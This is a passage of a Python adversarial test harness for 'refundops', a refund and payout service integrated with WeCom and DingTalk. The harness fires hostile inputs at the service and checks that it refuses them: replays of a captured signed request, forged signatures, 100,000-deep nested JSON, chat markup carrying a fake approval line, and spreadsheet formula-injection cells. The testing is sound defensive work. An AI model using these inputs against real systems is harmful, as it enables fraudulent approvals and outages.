        10,
        f"amount raised ¥40 → ¥4,800 after {handle}'s first ERP call failed, before the retry",
        "¥4,800 never sent unless someone allowed approves it; ¥40 at most once",
        f"{outcome}; ERP calls {erp_calls()}; performed {run.approvals(rid)}; "
        + ("; ".join(words) if words else f"state {final['state']}"),
        (outcome == "flagged" and set(erp_calls()) == {"40.00"} and run.approvals(rid) == ["40.00"])
        or (outcome == "reopened" and run.approvals(rid) == ["4800.00"] and "admin1" in words[-1]),
    )
    # A ¥99 return raised to ¥9,900 (with and without the order), then received and QC'd.
    refund = await run.new_refund(refund_event("ding-shop", "99.00", kind="return_refund"), at=0)
    rid = refund["case_id"]
    steps = [
        {"amount": "9900.00"},
        {"amount": "9900.00", "order_amount": "9900.00"},
        {"return_status": "received"},
        {"return_status": "qc_passed"},
    ]
    for n, step in enumerate(steps):
        seen = len((await run.settled(rid))["history"])
        await run.post_event(about(rid, "refund.updated", **step), at=n)
        await run.settled(rid, grown(seen), 8)
    final = await run.settled(rid, lambda c: c["state"] == "refunded", 15)
    run.report.add(
        10,
        "¥99 return: updates to ¥9,900, then received + qc_passed (auto-refund)",
        "ERP gets ¥99.00, never ¥9,900",
        f"state {final['state']}; refused {history(final).count('amount_refused')}×; "
        f"ERP {run.approvals(rid)}",
        run.approvals(rid) == ["99.00"],
    )


def grown(seen: int) -> Callable[[dict[str, Any]], bool]:
    return lambda case: len(case["history"]) > seen


async def raise_to(run: Run, rid: str, amount: str, at: int = 0) -> dict[str, Any]:
    await run.post_event(about(rid, "refund.updated", amount=amount), at=at)
    return await run.settled(rid, lambda c: c["amount"] == amount, 10)


async def item11_stale_buttons(run: Run) -> None:
    # WeCom self-built app (cards by DM).
    refund = await run.new_refund(refund_event("app-shop", "40.00", "5000.00"), at=0)
    rid, handle = refund["case_id"], refund["handle"]
    found = await wait(lambda: run.app_card(handle), 15)
    if not found:
        raise RuntimeError(f"no WeCom app card for {handle}")
    task_id, card = found
    old_key = next(b["key"] for b in card["button_list"] if b["key"].startswith("approve:"))
    shown = card["main_title"]["title"]
    raised = await raise_to(run, rid, "1800.00", at=1)
    await asyncio.sleep(1)
    status, words = await run.app_click("sup1", task_id, old_key, at=0)
    await asyncio.sleep(1)
    after = await run.settled(rid)
    redrawn = run.p.wecom.cards[task_id]["main_title"]["title"]
    run.report.add(
        11,
        f"WeCom app: sup1 taps 通过 on {handle}'s card drawn at «{short(shown, 20)}»",
        f"refused «{STALE}», card redrawn ¥1,800, not approved",
        f"{status} «{short(words, 30)}»; card now «{short(redrawn, 22)}»; state {after['state']}",
        STALE in words
        and after["state"] == "awaiting_review"
        and "approve" not in history(after)
        and raised["amount"] == "1800.00"
        and "1,800" in redrawn,
    )
    # WeCom AI bot.
    refund = await run.new_refund(refund_event("bot-shop", "40.00", "5000.00"), at=1)
    rid, handle = refund["case_id"], refund["handle"]
    found = await wait(lambda: run.bot_card(handle), 15)
    if not found:
        raise RuntimeError(f"no AI-bot card for {handle}")
    task_id, card = found
    old_key = next(b["key"] for b in card["button_list"] if b["key"].startswith("approve:"))
    await raise_to(run, rid, "1800.00", at=0)
    before = len(run.bot_markdown())
    await run.p.aibot.click("wx_sup1", BOT_CHAT, task_id, old_key)
    told = await wait(lambda: [m for m in run.bot_markdown()[before:] if STALE in m], 10)
    await asyncio.sleep(1)
    after = await run.settled(rid)
    redrawn = run.p.aibot.card(BOT_CHAT, task_id)["main_title"]["title"]
    run.report.add(
        11,
        f"AI bot: sup1 taps the ¥40 card's 通过 on {handle} after ¥1,800",
        f"refused «{STALE}», card redrawn, not approved",
        f"told {bool(told)}; card now «{short(redrawn, 22)}»; state {after['state']}",
        bool(told)
        and after["state"] == "awaiting_review"
        and "approve" not in history(after)
        and "1,800" in redrawn,
    )
    # DingTalk (HTTP callbacks): the tap carries the version of the card it was drawn from.
    refund = await run.new_refund(refund_event("ding-shop", "40.00", "5000.00"), at=0)
    rid, handle = refund["case_id"], refund["handle"]
    dcard = await wait(lambda: run.ding_card(handle), 15)
    if dcard is None:
        raise RuntimeError(f"no DingTalk card for {handle}")
    stale = run.p.ding.click_payload(dcard.out_track_id, "ding-sup1", "approve")
    await raise_to(run, rid, "1800.00", at=1)
    status, answer, words = await run.ding_tap("sup1", handle, "approve", at=1, payload=stale)
    await asyncio.sleep(1)
    after = await run.settled(rid)
    title = (
        answer.get("cardData", {}).get("cardParamMap", {}).get("title", "")
        if isinstance(answer, dict)
        else ""
    )
    run.report.add(
        11,
        f"DingTalk: sup1 taps 通过 on {handle} with the ¥40 card's version",
        f"refused «{STALE}», card redrawn ¥1,800, not approved",
        f"{status}; told {STALE in words}; card «{short(title, 22)}»; state {after['state']}",
        STALE in words
        and after["state"] == "awaiting_review"
        and "approve" not in history(after)
        and "1,800" in title,
    )


async def item12_pii(run: Run) -> None:
    event = refund_event(
        "ding-shop",
        "66.00",
        reason=REASON,
        buyer={"nick": NICK},
        item={"title": "连衣裙 联系13812345678"},
    )
    refund = await run.new_refund(event, at=0)
    rid, handle = refund["case_id"], refund["handle"]
    await run.ding_say("agent1", f"备注 {handle} 买家又留了新号 13700001111", at=1)
    await run.post_event(about(rid, "buyer.message", text="新号１３６００００２２２２"), at=0)
    await run.settled(rid, lambda c: "buyer_message" in json.dumps(c["history"]) or True, 3)
    await asyncio.sleep(2)
    card = run.ding_card(handle)
    shown = json.dumps(card.params if card else {}, ensure_ascii=False)
    lines = said(run.p.ding.group_messages + run.p.ding.session_replies)
    _, _, reply = await run.ding_say("sup1", f"查 {handle}", at=1)
    case = await run.settled(rid)
    api = json.dumps(case, ensure_ascii=False)
    status, page = await run.request("GET", 0, f"/dashboard?token={DASHBOARD_TOKEN}")
    exits = {
        "DingTalk card": shown,
        "group lines": lines,
        "查 reply": reply,
        "case API": api,
        "dashboard": page,
    }
    leaks = {name: pii.leaked(content, PII_RAW) for name, content in exits.items()}
    run.report.add(
        12,
        f"phones/ID/address in reason, nick, item, note, buyer message ({handle})",
        "masked on card, lines, 查, case API, dashboard",
        "; ".join(f"{k}: {v or 'ok'}" for k, v in leaks.items())
        + f"; card shows 138****5678: {'138****5678' in shown}; dashboard {status}",
        not any(leaks.values()) and "138****5678" in shown and status == 200 and bool(card),
    )


async def item12_logs(run: Run) -> None:
    logs = {i.name: pii.leaked(i.text(), PII_RAW) for i in [*run.instances, *run.extra]}
    accounts = {i.name: i.text().count("13800138000") for i in [*run.instances, *run.extra]}
    run.report.add(
        12,
        "instance logs after the whole run",
        "no phone / ID / address / payee account in any log line",
        f"leaks {logs}; payee account 13800138000 × {accounts}",
        not any(logs.values()) and not any(accounts.values()),
    )


async def item13_markup(run: Run) -> None:
    event = refund_event("ding-shop", "55.00", reason=MARKUP_REASON, buyer={"nick": MARKUP_NICK})
    refund = await run.new_refund(event, at=0)
    rid, handle = refund["case_id"], refund["handle"]
    mark = run.ding_mark()
    await run.post_event(about(rid, "buyer.message", text=MARKUP_REASON), at=1)
    card = await wait(lambda: run.ding_card(handle), 10)
    line = await wait(
        lambda: [
            m for m in run.ding_said(mark) if "主管已审批" in json.dumps(m, ensure_ascii=False)
        ],
        10,
    )
    card_md = card.params.get("markdown", "") if card else ""
    # The open API's sampleText and a session's text message show no Markdown; only links and
    # pings could act there. sampleMarkdown / markdown are checked as Markdown.
    checked = [
        (m, markup_problems(said([m])) if is_markdown(m) else text_problems(said([m])))
        for m in line or []
    ]
    kinds = sorted({str(m.get("key") or m.get("msgtype")) for m, _ in checked})
    problems = [p for _, found in checked for p in found]
    run.report.add(
        13,
        "buyer markup (link, fake 主管已审批 line, <@ceo>, @all, <font>, #) on DingTalk",
        "card markdown and the group line show it as text",
        f"card: {markup_problems(card_md) or 'harmless'}; line ({', '.join(kinds)}): "
        f"{(problems or 'harmless') if line else 'no line'}",
        bool(card) and not markup_problems(card_md) and bool(line) and not problems,
    )
    ops = run.p.wecom.webhook_messages["ops-key"]
    before = len(ops)
    await run.post_event(
        refund_event("ops-shop", "56.00", reason=MARKUP_REASON, buyer={"nick": MARKUP_NICK}), at=1
    )
    posted = await wait(lambda: [m["content"] for m in ops[before:] if "56.00" in m["content"]], 15)
    content = "\n".join(posted or [])
    run.report.add(
        13,
        "the same on a WeCom group robot (webhook markdown)",
        "shown as text",
        f"{markup_problems(content) if posted else 'no card'}",
        bool(posted) and not markup_problems(content),
    )
    bot = await run.new_refund(refund_event("bot-shop", "57.00"), at=0)
    before = len(run.bot_markdown())
    await run.post_event(about(bot["case_id"], "buyer.message", text=MARKUP_REASON), at=1)
    md = await wait(lambda: [m for m in run.bot_markdown()[before:] if "主管已审批" in m], 15)
    content = "\n".join(md or [])
    run.report.add(
        13,
        "buyer message with markup to the WeCom AI-bot group (markdown line)",
        "shown as text",
        f"{markup_problems(content) if md else 'no line'}",
        bool(md) and not markup_problems(content),
    )


async def item14_signed_get(run: Run) -> None:
    one = await run.new_refund(refund_event("ding-shop", "11.00"), at=0)
    two = await run.new_refund(refund_event("ding-shop", "12.00"), at=1)
    path = f"/api/v1/cases/{one['handle']}"
    ts = int(time.time())
    captured = {
        TIMESTAMP_HEADER: str(ts),
        SIGNATURE_HEADER: sign(SECRET, ts, f"GET {path}.".encode()),
    }
    own, _ = await run.request("GET", 0, path, headers=captured)
    other, body = await run.request("GET", 1, f"/api/v1/cases/{two['handle']}", headers=captured)
    query, _ = await run.request("GET", 0, f"{path}?x=1", headers=captured)
    empty = {TIMESTAMP_HEADER: str(ts), SIGNATURE_HEADER: sign(SECRET, ts, b"")}
    old_style, _ = await run.request("GET", 1, path, headers=empty)
    unsigned, _ = await run.request("GET", 0, path)
    run.report.add(
        14,
        "captured signed GET reused for another case / with a query / old body-only sign / none",
        "200 for its own path; 401 otherwise",
        f"own {own}; other {other}; query {query}; body-only {old_style}; unsigned {unsigned}",
        (own, other, query, old_style, unsigned) == (200, 401, 401, 401, 401)
        and two["handle"] not in body,
    )


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


async def item15_nested_json(run: Run) -> None:
    deep = nested(100_000).encode()
    event = (
        '{"id":"evt_deep","type":"refund.requested","occurred_at":"' + now_iso() + '",'
        '"data":{"refund_id":"RFDEEP","order_id":"T1","kind":"refund_only","amount":"1.00"},'
        '"vendor":' + nested(100_000) + "}"
    ).encode()
    batch = b'{"events":[' + event + b"]}"
    results: list[tuple[str, int, bool]] = []
    for name, path, body in (
        ("events (bare)", "/api/v1/events", deep),
        ("events (vendor)", "/api/v1/events", event),
        ("batch", "/api/v1/events/batch", batch),
    ):
        headers = {
            "Content-Type": "application/json",
            **signed_headers(SECRET, int(time.time()), body),
        }
        status, answer = await run.request("POST", len(results), path, body, headers)
        results.append((name, status, "Traceback" in answer))
    ding = run.p.ding
    status, answer = await run.request(
        "POST",
        0,
        "/dingtalk/robot",
        deep,
        {**ding.robot_headers(), "Content-Type": "application/json"},
    )
    results.append(("dingtalk robot", status, "Traceback" in answer))
    secret = str(next(iter(ding.registrations.values()))["apiSecret"])
    ts = str(ding.now_ms())
    card_headers = {
        CARD_TIMESTAMP_HEADER: ts,
        CARD_SIGN_HEADER: card_sign(secret, ts),
        "Content-Type": "application/json",
    }
    status, answer = await run.request("POST", 1, "/dingtalk/card", deep, card_headers)
    results.append(("dingtalk card", status, "Traceback" in answer))
    bad = [f"{n}: {s}" for n, s, tb in results if s != 400 or tb]
    run.report.add(
        15,
        "100,000-deep JSON, signed: ingest, batch, DingTalk robot and card",
        "400 each, no traceback",
        "; ".join(f"{n} {s}" for n, s, _ in results),
        not bad,
    )
    crypto = run.aibot_http
    genuine = crypto.crypto.encrypt('{"msgtype":"text"}')["encrypt"]
    forged = crypto.query(genuine)
    forged["msg_signature"] = "0" * 40
    unsigned: list[tuple[int, bool]] = []
    for body_text in (
        f'{{"encrypt":"{genuine}","x":{nested(100_000)}}}',
        f'{{"x":{nested(100_000)},"encrypt":"{genuine}"}}',
        nested(100_000),
    ):
        status, answer = await run.request(
            "POST", len(unsigned), f"/wecom/aibot?{urlencode(forged)}", body_text.encode()
        )
        unsigned.append((status, "Traceback" in answer))
    sealed = crypto.crypto.encrypt(nested(1000))["encrypt"]
    query = urlencode(crypto.query(sealed))
    signed_status, answer = await run.request(
        "POST", 0, f"/wecom/aibot?{query}", json.dumps({"encrypt": sealed}).encode()
    )
    run.report.add(
        15,
        "/wecom/aibot: nested JSON with a forged msg_signature; signed nested plaintext",
        "401/400 before parsing (no 500); signed nested 400",
        f"forged {[s for s, _ in unsigned]}; signed {signed_status}",
        [s for s, _ in unsigned] == [401, 401, 400]
        and signed_status == 400
        and not any(tb for _, tb in unsigned)
        and "Traceback" not in answer,
    )


async def item16_payout_amounts(run: Run) -> None:
    answers = []
    cards_before = len(run.p.aibot.cards[FINANCE_CHAT])
    for amount in ("1e30", "100000000.01", "NaN", "-5"):
        reply = await run.bot_say(
            "agent1", f"打款 返现 T1 {amount} 13800138000 王小明 活动返现", FINANCE_CHAT
        )
        answers.append((amount, reply))
    await asyncio.sleep(1.5)
    bad = [
        f"{a}: «{short(r, 40)}»"
        for a, r in answers
        if "处理出错了" in r or f"金额「{a}」不对" not in r or "¥100,000,000.00" not in r
    ]
    created = len(run.p.aibot.cards[FINANCE_CHAT]) - cards_before
    run.report.add(
        16,
        "agent1 types 打款 … 1e30 / 100000000.01 / NaN / -5 in 财务群",
        "usage hint naming the ¥100,000,000.00 cap; no payout",
        ("usage hint each" if not bad else "; ".join(bad)) + f"; new payout cards {created}",
        not bad and created == 0,
    )


async def item18_exports(run: Run) -> None:
    ids: list[str] = []
    for reason in HOSTILE_CELLS:
        event = refund_event("ding-shop", "30.00", reason=reason)
        await run.post_event(event, at=len(ids))
        ids.append(event["data"]["refund_id"])
    payout = payout_event(
        "31.00", order_id="=1+2", payee={"name": "@SUM(1,2)", "account": "13800138000"}
    )
    await run.post_event(payout, at=1)
    for rid in ids:
        await run.settled(rid)
    await run.settled(payout["data"]["payout_id"])
    today = datetime.now(BEIJING).date()
    span = ["--since", str(today - timedelta(days=1)), "--until", str(today + timedelta(days=1))]
    csv_out, xlsx_out, pay_out = (
        run.tmp / "refunds.csv",
        run.tmp / "refunds.xlsx",
        run.tmp / "p.csv",
    )
    base = ["--config", str(run.config), "--lang", "en"]
    made = await asyncio.gather(
        cli(run.env, "export", "refunds", *span, *base, "--out", str(csv_out)),
        cli(run.env, "export", "refunds", *span, *base, "--out", str(xlsx_out), "--format", "xlsx"),
        cli(run.env, "export", "payouts", *span, *base, "--out", str(pay_out)),
    )
    if any(m.code != 0 for m in made):
        raise RuntimeError("export failed: " + " | ".join(m.err[-300:] for m in made))
    exported = csv_out.read_text(encoding="utf-8-sig")
    pii_rows = [r for r in csv.DictReader(io.StringIO(exported)) if "138****5678" in r["reason"]]
    run.report.add(
        12,
        "`refundops export refunds` (the PII refund's row)",
        "reason masked, nothing raw in the file",
        f"rows with 138****5678 {len(pii_rows)}; raw values in the file {pii.leaked(exported, PII_RAW)}",
        bool(pii_rows) and not pii.leaked(exported, PII_RAW),
    )
    rows = list(csv.DictReader(io.StringIO(exported)))
    reasons = [r["reason"] for r in rows if r.get("case_id", r.get("refund_id", "")) in ids]
    if not reasons:
        reasons = [r["reason"] for r in rows if any(h in r["reason"] for h in HOSTILE_CELLS)]
    sheet = load_workbook(xlsx_out).active
    assert sheet is not None
    every = [cell for row in sheet.iter_rows() for cell in row]
    cells = [str(c.value) for c in every if c.data_type == "s"]
    formulas = [c.coordinate for c in every if c.data_type == "f"]
    hostile_xlsx = [c for c in cells if any(h in c for h in HOSTILE_CELLS)]
    payouts = list(csv.DictReader(io.StringIO(pay_out.read_text(encoding="utf-8-sig"))))
    mine = [r for r in payouts if r["payout_id"] == payout["data"]["payout_id"]]
    pay_cells = [r[k] for r in mine for k in ("order_id", "payee_name")]
    bare = [c for c in [*reasons, *hostile_xlsx, *pay_cells] if c and c[0] in "=+-@\t\r"]
    run.report.add(
        18,
        "formula-shaped reasons / payee name, `refundops export` csv + xlsx",
        "every such cell prefixed with ', no <f> in xlsx",
        f"csv {len(reasons)} hostile cells, xlsx {len(hostile_xlsx)}, payout cells {pay_cells}; "
        f"unprefixed {bare}; xlsx formulas {len(formulas)}",
        len(reasons) >= 4
        and len(hostile_xlsx) >= 4
        and len(pay_cells) >= 2
        and not bare
        and not formulas,
    )


async def item19_handle_shaped_id(run: Run) -> None:
    small = await run.new_refund(refund_event("ding-shop", "20.00"), at=0)
    shaped_id = small["handle"]
    shaped = refund_event("ding-shop", "1800.00", refund_id=shaped_id)
    await run.post_event(shaped, at=1)
    big = await run.settled(shaped_id, lambda c: c["case_id"] == shaped_id)
    _, _, reply = await run.ding_say("sup1", f"通过 {shaped_id}", at=0)
    await asyncio.sleep(1)
    states = (
        (await run.settled(small["case_id"]))["state"],
        (await run.settled(big["handle"]))["state"],
    )
    by_id = await run.case(shaped_id, at=1)
    by_handle = await run.case(f"%23{shaped_id}", at=0)
    run.report.add(
        19,
        f"refund id «{shaped_id}» = another case's handle; sup1 types 通过 {shaped_id}",
        "refused naming both (#R…); API prefers the id and says so; %23 = the handle",
        f"«{short(reply, 60)}»; states {states}; API id→{by_id and by_id['handle']} "
        f"also={bool(by_id and by_id.get('also'))}; #→{by_handle and by_handle['case_id']}",
        "同时指向" in reply
        and states == ("awaiting_review", "awaiting_review")
        and by_id is not None
        and by_id["case_id"] == shaped_id
        and bool(by_id.get("also"))
        and by_handle is not None
        and by_handle["case_id"] == small["case_id"],
    )


async def item20_ready_and_logs(run: Run) -> None:
    """The database turns read-only under a running instance (as a failed-over replica):
    /readyz must fail; then writable again."""
    engine = create_async_engine(f"{PG_SERVER}/postgres", isolation_level="AUTOCOMMIT")
    kick = text(
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity "
        "WHERE datname = :db AND pid <> pg_backend_pid()"
    )
    try:
        before = (await run.request("GET", 0, "/readyz"))[0]
        async with engine.connect() as conn:
            await conn.execute(
                text(f'ALTER DATABASE "{DB_NAME}" SET default_transaction_read_only = on')
            )
            await conn.execute(kick, {"db": DB_NAME})
        await asyncio.sleep(0.5)
        during, body = await run.request("GET", 0, "/readyz")
    finally:
        async with engine.connect() as conn:
            await conn.execute(
                text(f'ALTER DATABASE "{DB_NAME}" RESET default_transaction_read_only')
            )
            await conn.execute(kick, {"db": DB_NAME})
        await engine.dispose()

    async def ok() -> bool:
        return (await run.request("GET", 0, "/readyz"))[0] == 200

    after = await await_until(ok, 15)
    run.report.add(
        20,
        "/readyz while the database takes no writes (read-only, SELECT still works)",
        "200 → 503 not writable → 200",
        f"{before} → {during} «{short(body, 50)}» → {200 if after else 'not 200'}",
        before == 200 and during == 503 and "not writable" in body and bool(after),
    )
    floods = {i.name: i.text().count("never retrieved") for i in [*run.instances, *run.extra]}
    tracebacks = {i.name: i.text().count("Traceback") for i in [*run.instances, *run.extra]}
    run.report.add(
        20,
        "instance logs over the whole run",
        "no 'Task exception was never retrieved'",
        f"never-retrieved {floods}; tracebacks logged {tracebacks}",
        not any(floods.values()),
    )


async def cli_items(run: Run) -> None:
    """Items whose attack is a configuration: run as `refundops` subprocesses."""
    base = json.loads(json.dumps(run.settings))

    def variant(name: str, change: Callable[[dict[str, Any]], None]) -> Path:
        data = json.loads(json.dumps(base))
        change(data)
        path = run.tmp / f"{name}.toml"
        path.write_text(toml(data), encoding="utf-8")
        return path

    sandbox = variant("sandbox", lambda d: d["groups"].append({"id": "demo", "channel": "sandbox"}))
    channelless = variant("nochannel", lambda d: d["groups"].append({"id": "bare"}))

    def simulate(d: dict[str, Any]) -> None:
        d["commerce"] = {"mode": "simulator"}
        d["carrier"] = {"mode": "simulator"}
        d["simulator"] = {"enabled": True}

    simulated = variant("simulated", simulate)

    def twins(d: dict[str, Any]) -> None:
        d["staff"].append(
            {
                "id": "agent9",
                "roles": ["agent"],
                "refund_limit": 50,
                "wecom_userid": "WX_SUP1",
                "dingtalk_staff_id": "ding-fin1",
            }
        )

    shared = variant("shared", twins)
    port = free_port()
    serve_env = {**run.env, "REFUNDOPS_SERVER__PORT": str(port)}
    checks = await asyncio.gather(
        cli(run.env, "check-config", "--config", str(run.config)),
        cli(run.env, "check-config", "--config", str(sandbox)),
        cli(serve_env, "serve", "--config", str(sandbox), within=20),
        cli(serve_env, "serve", "--config", str(channelless), within=20),
        cli(run.env, "check-config", "--config", str(simulated)),
        cli(serve_env, "serve", "--config", str(simulated), within=20),
        cli(run.env, "check-config", "--config", str(shared)),
        cli(serve_env, "serve", "--config", str(shared), within=20),
    )
    good, check_sb, serve_sb, serve_bare, check_sim, serve_sim, check_twin, serve_twin = checks
    run.report.add(
        1,
        "check-config / serve with a sandbox group; serve with a channel-less group",
        "exit 2 naming the demo-only sandbox / the missing channel; nothing listens",
        f"baseline check {good.code}; check {check_sb.code}, serve {serve_sb.code}, "
        f"channel-less {serve_bare.code} «{short(serve_bare.err, 60)}»",
        good.code == 0
        and check_sb.code == 2
        and serve_sb.code == 2
        and "sandbox exists only under `refundops demo`" in check_sb.err + serve_sb.err
        and serve_bare.code == 2
        and "no default channel" in serve_bare.err,
    )
    needed = ("commerce.mode = 'simulator'", "carrier.mode = 'simulator'", "simulator.enabled")
    run.report.add(
        2,
        "check-config / serve with commerce, carrier simulators and simulator.enabled",
        "exit 2, each named",
        f"check {check_sim.code} names {[n for n in needed if n in check_sim.err]}; "
        f"serve {serve_sim.code}",
        check_sim.code == 2 and serve_sim.code == 2 and all(n in check_sim.err for n in needed),
    )
    twin_lines = [line for line in check_twin.err.splitlines() if "would act as both" in line]
    run.report.add(
        17,
        "two staff share a WeCom userid (case differs) and a DingTalk id",
        "check-config and serve exit 2 naming both",
        f"check {check_twin.code} ({len(twin_lines)} named); serve {serve_twin.code}",
        check_twin.code == 2 and len(twin_lines) == 2 and serve_twin.code == 2,
    )


async def item21_schemathesis(run: Run) -> None:
    base = run.url(0)
    result = await asyncio.to_thread(schemathesis_run, base)
    for (method, path, mode), (statuses, failures) in result.items():
        seen = ", ".join(f"{code}×{n}" for code, n in sorted(statuses.items()))
        run.report.add(
            21,
            f"schemathesis {mode} {method} {path} (signing hook)",
            "no 5xx, no schema violation, valid accepted / invalid refused",
            f"{statuses.total()} examples ({seen}); "
            + ("no failure" if not failures else "; ".join(failures[:2])),
            statuses.total() > 0 and not failures,
        )


def schemathesis_run(base: str) -> dict[tuple[str, str, str], tuple[Counter[int], list[str]]]:
    import requests
    import schemathesis
    from hypothesis import HealthCheck, Phase, given, settings
    from schemathesis import GenerationMode
    from schemathesis.checks import not_a_server_error
    from schemathesis.specs.openapi.checks import (
        content_type_conformance,
        negative_data_rejection,
        positive_data_acceptance,
        response_schema_conformance,
        status_code_conformance,
    )

    checks = [
        not_a_server_error,
        status_code_conformance,
        content_type_conformance,
        response_schema_conformance,
        positive_data_acceptance,
        negative_data_rejection,
    ]

    class SigningSession(requests.Session):
        """Signs each request as it goes out: a POST its body, a GET its method and target."""

        def send(self, request: requests.PreparedRequest, **kwargs: Any) -> requests.Response:
            if TIMESTAMP_HEADER not in request.headers or SIGNATURE_HEADER not in request.headers:
                return super().send(request, **kwargs)
            body = request.body or b""
            raw = body.encode() if isinstance(body, str) else body
            assert isinstance(raw, bytes)
            ts = int(time.time())
            target = "" if request.method == "POST" else f"{request.method} {request.path_url}"
            request.headers[TIMESTAMP_HEADER] = str(ts)
            request.headers[SIGNATURE_HEADER] = sign(SECRET, ts, raw, target=target)
            return super().send(request, **kwargs)

    def consistent(case: Any) -> None:
        body = case.body
        if not isinstance(body, dict):
            return
        listed = body.get("events")
        events: list[Any] = listed if isinstance(listed, list) else [body]
        for event in events:
            data = event.get("data") if isinstance(event, dict) else None
            if (
                isinstance(event, dict)
                and event.get("type") == "refund.requested"
                and isinstance(data, dict)
                and isinstance(data.get("amount"), str)
                and isinstance(data.get("order_amount"), str)
            ):
                data["order_amount"] = max(data["amount"], data["order_amount"], key=float)

    schema = schemathesis.openapi.from_url(f"{base}/api/v1/openapi.json")
    session = SigningSession()
    examples = {"/api/v1/events": 30, "/api/v1/events/batch": 8, "/api/v1/cases/{case_id}": 30}
    results: dict[tuple[str, str, str], tuple[Counter[int], list[str]]] = {}

    def runner(
        operation: Any, mode: Any, method: str, failures: list[str], statuses: Counter[int]
    ) -> Callable[[], None]:

        @settings(
            max_examples=examples[operation.path],
            deadline=None,
            database=None,
            phases=[Phase.explicit, Phase.generate],
            suppress_health_check=list(HealthCheck),
        )
        @given(case=operation.as_strategy(generation_mode=mode))
        def one(case: Any) -> None:
            if mode is GenerationMode.POSITIVE:
                consistent(case)
            response = case.call(base_url=base, session=session, timeout=30)
            statuses[response.status_code] += 1
            try:
                case.validate_response(response, checks=checks)
            except Exception as exc:
                failures.append(f"{response.status_code}: {short(str(exc), 160)}")
                return
            if method == "POST":
                allowed = {202} if mode is GenerationMode.POSITIVE else {400, 401, 413}
            else:
                # 409: an id both a refund and a payout carry (documented: ask by handle).
                allowed = (
                    {200, 404, 409} if mode is GenerationMode.POSITIVE else {200, 401, 404, 409}
                )
            if response.status_code not in allowed:
                failures.append(f"{response.status_code}: {short(response.text, 160)}")

        return one

    for method, path in (
        ("POST", "/api/v1/events"),
        ("POST", "/api/v1/events/batch"),
        ("GET", "/api/v1/cases/{case_id}"),
    ):
        for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):
            failures: list[str] = []
            statuses: Counter[int] = Counter()
            runner(schema[path][method], mode, method, failures, statuses)()
            results[(method, path, mode.value)] = (statuses, failures)
    return results


# -- the run, in order --------------------------------------------------------------------------


async def attempt(run: Run, item: int, name: str, attack: Awaitable[None]) -> None:
    print(f"· item {item}: {name}", file=sys.stderr, flush=True)
    try:
        await asyncio.wait_for(attack, 180)
    except Exception as exc:
        run.report.error(item, name, exc)


async def main_async() -> int:
    report = Report()
    tmp = Path(tempfile.mkdtemp(prefix="refundops-outside-"))
    started = time.monotonic()
    run = Run(report, tmp)
    try:
        async with run.running():
            print(
                f"· two instances ready after {time.monotonic() - started:.0f} s; logs in "
                f"{run.logs}",
                file=sys.stderr,
                flush=True,
            )
            configs = asyncio.ensure_future(cli_items(run))
            early = refund_event("ding-shop", "40.00", shipping={"status": "unshipped"})
            cancel = about(early["data"]["refund_id"], "refund.cancelled", detail="买家撤销")
            cancel_status, _ = await run.post_event(cancel, at=1)
            cancel_at = time.monotonic()
            for item, name, attack in (
                (1, "sandbox routes", item1_sandbox_api),
                (1, "commands in the wrong group; the Alipay payout", item1_cross_group),
                (2, "no silent simulators", item2_no_silent_simulator),
                (3, "authority on every path to approve_refund", item3_hand_recorded_intercept),
                (4, "DingTalk HTTP callbacks", item4_dingtalk_replay),
                (8, "one bad event among 40", item8_bad_event_alone),
                (9, "202 means applied", item9_202_means_applied),
                (10, "amounts under a decision", item10_amounts),
                (11, "stale buttons", item11_stale_buttons),
                (12, "PII at every exit", item12_pii),
                (13, "markup injection", item13_markup),
                (14, "signed GET", item14_signed_get),
                (15, "nested JSON", item15_nested_json),
                (16, "chat payout amounts", item16_payout_amounts),
                (18, "exports", item18_exports),
                (19, "handle-shaped ids", item19_handle_shaped_id),
            ):
                await attempt(run, item, name, attack(run))
            await attempt(
                run,
                9,
                "cancellation before its refund",
                item9_cancel_before_refund(run, early, cancel_at),
            )
            if cancel_status != 202:
                report.add(
                    9, "refund.cancelled before its refund", "202", str(cancel_status), False
                )
            await attempt(run, 1, "configurations (CLI)", configs)
            await attempt(run, 5, "Redis outage", item5_redis_outage(run))
            await attempt(run, 7, "DingTalk card ids", item7_card_ids(run))
            await attempt(run, 6, "one AI-bot connection", item6_aibot_one_connection(run))
            await attempt(run, 3, "approve-all on a batch card", item3_batch_card(run))
            await attempt(run, 20, "readiness and logs", item20_ready_and_logs(run))
            await attempt(run, 12, "logs", item12_logs(run))
            await attempt(run, 21, "schemathesis", item21_schemathesis(run))
    except Exception as exc:
        report.error(0, "set-up / tear-down", exc)
    took = time.monotonic() - started
    print()
    report.print()
    print(f"total time {took:.0f} s")
    if report.failed:
        print(f"instance logs kept in {tmp / 'logs'}")
    else:
        shutil.rmtree(tmp, ignore_errors=True)
    return 1 if report.failed else 0


def main() -> int:
    return asyncio.run(main_async())


if __name__ == "__main__":
    sys.exit(main())
